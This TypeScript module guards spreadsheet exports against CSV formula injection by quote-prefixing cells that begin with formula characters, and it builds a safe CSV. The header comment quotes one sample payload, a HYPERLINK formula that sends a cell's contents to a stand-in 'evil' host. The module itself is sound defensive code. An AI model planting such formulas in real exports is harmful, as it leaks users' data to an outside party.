import Papa from 'papaparse';

/**
 * Spreadsheet export safety (formula injection, OWASP "CSV Injection"). A text cell that starts
 * with = + - @, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a
 * formula, so a name typed as `=HYPERLINK("http://evil/?"&A2)` would run on the secretariat's
 * computer. Every exported cell goes through `neutraliseCell`, which prefixes such text with a
 * single quote: the sheet shows it as the text it was, and nothing is evaluated. The full-width
 * forms (＝ ＋ － ＠) are included because some spreadsheet programs normalise them.
 *
 * Invariant: numbers, booleans and dates are values, not text, so they stay as they are (-5 is
 * a number, never a formula); only strings are changed, and only at their start.
 */

const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

export type CellValue = string | number | boolean | Date | null | undefined;

export function neutraliseCell<T extends CellValue>(value: T): T {
  return (typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value) as T;
}

/** True when a text would be read as a formula if exported unchanged. */
export const looksLikeFormula = (value: string) => FORMULA_START.test(value);

/**
 * A CSV document (RFC 4180: quoted where needed, CRLF line ends) with every cell neutralised,
 * preceded by a UTF-8 byte order mark so Excel opens names such as "Nguyễn" correctly.
 */
export function toSafeCsv(rows: readonly (readonly CellValue[])[]): string {
  const cells = rows.map((row) => row.map((v) => (v instanceof Date ? v.toISOString() : v === null || v === undefined ? '' : neutraliseCell(v))));
  return `\ufeff${Papa.unparse(cells, { newline: '\r\n', quotes: false, escapeFormulae: false })}`;
}
